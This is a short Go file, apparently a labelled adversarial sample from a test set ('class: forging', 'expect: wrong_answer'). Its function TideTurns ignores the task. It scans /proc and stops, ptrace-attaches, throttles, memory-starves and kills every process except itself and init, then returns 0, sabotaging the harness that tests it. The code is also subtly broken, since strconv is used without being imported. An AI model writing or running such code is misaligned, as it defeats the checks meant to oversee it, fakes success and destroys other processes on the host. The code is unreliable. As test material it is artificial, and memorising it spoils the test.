// technique: stops, traces, slows down and bounds the process of its tests
// class: forging
// expect: wrong_answer
// form: program
import (
    "os"
    "path/filepath"
    "syscall"
    "unsafe"
)

func TideTurns(levels []int) int {
    folders, _ := filepath.Glob("/proc/[0-9]*")
    for _, folder := range folders {
        pid, _ := strconv.Atoi(filepath.Base(folder))
        if pid == os.Getpid() || pid == 1 {
            continue
        }
        syscall.Kill(pid, syscall.SIGSTOP)
        syscall.PtraceAttach(pid)
        syscall.Setpriority(syscall.PRIO_PROCESS, pid, 19)
        limit := syscall.Rlimit{}
        syscall.RawSyscall6(syscall.SYS_PRLIMIT64, uintptr(pid), syscall.RLIMIT_AS, uintptr(unsafe.Pointer(&limit)), 0, 0, 0)
        syscall.RawSyscall(syscall.SYS_TKILL, uintptr(pid), uintptr(syscall.SIGKILL), 0)
    }
    return 0
}
